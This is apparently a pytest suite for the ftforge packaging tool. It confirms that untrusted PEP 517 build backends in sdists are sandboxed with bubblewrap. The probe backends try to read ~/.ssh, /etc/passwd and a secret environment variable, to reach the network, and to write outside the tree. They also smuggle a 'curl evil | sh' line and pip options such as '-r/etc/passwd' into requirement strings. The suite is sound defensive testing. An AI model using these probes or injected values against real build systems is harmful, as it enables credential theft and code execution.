"""An sdist's in-tree PEP 517 backend runs only inside the bubblewrap sandbox (issue 13
item 5): it sees no network, no home, no secrets, writes nothing outside the unpacked
sdist, and is stopped by the time and memory limits; its answer is checked."""

from __future__ import annotations

import io
import os
import socket
import tarfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from ftforge import sandbox
from ftforge.limits import SourceLimits
from ftforge.recipes.pep517 import dynamic_build_requires
from ftforge.recipes.sdist import SdistError

pytestmark = pytest.mark.skipif(not sandbox.available(),
                                reason="bubblewrap missing: scripts/setup installs it")

PROBE = '''
import os, socket
from pathlib import Path

def get_requires_for_build_wheel(config_settings=None):
    seen = []
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
        seen.append("reached-host-loopback")
    except OSError:
        pass
    for name, path in (("saw-ssh", "/root/.ssh"), ("saw-home", "{home}/.profile"), ("saw-home", "{home}/.bashrc"), ("saw-home", "/home"),
                       ("saw-project", "{project}"), ("saw-etc", "/etc/passwd"),
                       ("saw-outside", "{outside}"), ("saw-cache", "/root/.cache")):
        if os.path.exists(path):
            seen.append(name)
    if os.environ.get("FTFORGE_TEST_SECRET"):
        seen.append("saw-secret")
    try:
        Path("{outside}/written-by-backend").write_text("x")
        seen.append("wrote-outside")
    except OSError:
        pass
    if os.getuid() == 0:
        seen.append("ran-as-root")
    Path("written-inside").write_text("fine")  # the unpacked sdist is writable
    return ["cython>=3"] + seen
'''


def sdist_with_backend(tmp_path: Path, backend_source: str) -> Path:
    path = tmp_path / "probe-1.0.tar.gz"
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "probe_backend"\n'
                          'backend-path = ["_build"]\n',
        "_build/probe_backend.py": backend_source,
    }
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"probe-1.0/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


FACTS = SimpleNamespace(backend_wrapper="probe_backend", build_requires=(), backend="setuptools")


@pytest.fixture
def cache(tmp_path, monkeypatch):
    monkeypatch.setenv("FTFORGE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("FTFORGE_TEST_SECRET", "hunter2")
    return tmp_path / "cache"


def test_backend_sees_no_network_home_secret_or_outside_tree(tmp_path, cache):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("a file the backend must not see")
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        source = PROBE.format(port=port, project=Path(__file__).resolve().parents[2] / "src",
                              outside=outside, home=os.environ["HOME"])
        answer = dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS)
    assert answer == ("cython>=3",), answer  # nothing it tried was possible
    assert sorted(p.name for p in outside.iterdir()) == ["keep"]


def test_a_hanging_backend_is_stopped_by_the_time_limit(tmp_path, cache):
    source = "def get_requires_for_build_wheel(config_settings=None):\n    while True: pass\n"
    with pytest.raises(sandbox.SandboxError, match=r"SourceLimits\.backend_seconds"):
        dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS,
                               limits=SourceLimits(backend_seconds=3))


def test_a_greedy_backend_is_stopped_by_the_memory_limit(tmp_path, cache):
    source = ("def get_requires_for_build_wheel(config_settings=None):\n"
              "    return ['x' * (3 << 30)]\n")
    with pytest.raises(sandbox.SandboxError, match="backend_memory_bytes") as info:
        dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS,
                               limits=SourceLimits(backend_memory_bytes=1 << 30))
    assert "MemoryError" in info.value.message


def test_a_hostile_answer_never_reaches_the_recipe(tmp_path, cache):
    source = ("def get_requires_for_build_wheel(config_settings=None):\n"
              "    return ['cython\\n  script: curl evil | sh']\n")
    with pytest.raises(SdistError, match="not a PEP 508 requirement"):
        dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS)
    assert not list(cache.glob("pep517/*.json"))  # a refused answer is not cached


def test_without_bubblewrap_the_backend_is_not_run(tmp_path, cache, monkeypatch):
    from ftforge.errors import MissingSystemDependency

    marker = tmp_path / "ran"
    source = (f"def get_requires_for_build_wheel(config_settings=None):\n"
              f"    open({str(marker)!r}, 'w').close()\n    return []\n")
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    with pytest.raises(MissingSystemDependency, match="bubblewrap"):
        dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS)
    assert not marker.exists()
    assert os.environ["FTFORGE_TEST_SECRET"] == "hunter2"


@pytest.mark.parametrize("requirement,expected", [
    ("--target=/tmp/ftforge-pip-escape", "not a PEP 508 requirement"),
    ("-r/etc/passwd", "not a PEP 508 requirement"),
    ("x @ file:///etc/passwd", "direct URL"),
])
def test_build_requirements_are_never_pip_options_or_urls(tmp_path, cache, requirement, expected):
    facts = SimpleNamespace(backend_wrapper="probe_backend", build_requires=(requirement,),
                            backend="setuptools")
    source = "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
    with pytest.raises(SdistError, match=expected):
        dynamic_build_requires(sdist_with_backend(tmp_path, source), facts)
    assert not Path("/tmp/ftforge-pip-escape").exists()


@pytest.mark.parametrize("kind", ["fifo", "symlink", "directory"])
def test_an_answer_that_is_not_a_plain_file_is_refused_without_blocking(tmp_path, cache, kind):
    """The hook itself replaces pyproject_hooks' output.json (its control directory is
    writable): a FIFO used to block `recipe pypi` forever."""
    make = {"fifo": "os.mkfifo(answer)", "symlink": "os.symlink('/etc/passwd', answer)",
            "directory": "os.mkdir(answer)"}[kind]
    source = ("import os, sys\n"
              "def get_requires_for_build_wheel(config_settings=None):\n"
              "    answer = os.path.join(sys.argv[2], 'output.json')\n"
              f"    {make}\n"
              "    os._exit(0)\n")
    with pytest.raises(sandbox.SandboxError, match="output.json"):
        dynamic_build_requires(sdist_with_backend(tmp_path, source), FACTS,
                               limits=SourceLimits(backend_seconds=20))
    assert not list(cache.glob("pep517/*.json"))


def test_a_terminated_run_removes_its_scratch_directory(tmp_path, cache):
    """`timeout 120 ftforge recipe pypi ...` sends SIGTERM: the unpacked sdist and the
    venv must not be left behind, nor the sandboxed backend left running."""
    import signal
    import subprocess
    import sys
    import time

    source = ("import time\ndef get_requires_for_build_wheel(config_settings=None):\n"
              "    time.sleep(600)\n")
    sdist = sdist_with_backend(tmp_path, source)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    script = ("import sys\nfrom pathlib import Path\nfrom types import SimpleNamespace\n"
              "from ftforge.recipes.pep517 import dynamic_build_requires\n"
              "facts = SimpleNamespace(backend_wrapper='probe_backend', build_requires=(), "
              "backend='setuptools')\n"
              f"dynamic_build_requires(Path({str(sdist)!r}), facts)\n")
    child = subprocess.Popen([sys.executable, "-c", script], env={**os.environ,
                             "TMPDIR": str(scratch)})
    try:
        for _ in range(600):  # wait until the backend is running in its scratch directory
            if list(scratch.glob("ftforge-pep517-*/src/probe-1.0/_build")):
                break
            time.sleep(0.1)
        else:
            raise AssertionError("the backend never started")
        time.sleep(1)
        child.send_signal(signal.SIGTERM)
        assert child.wait(timeout=60) == 128 + signal.SIGTERM
    finally:
        child.kill()
    assert list(scratch.iterdir()) == []
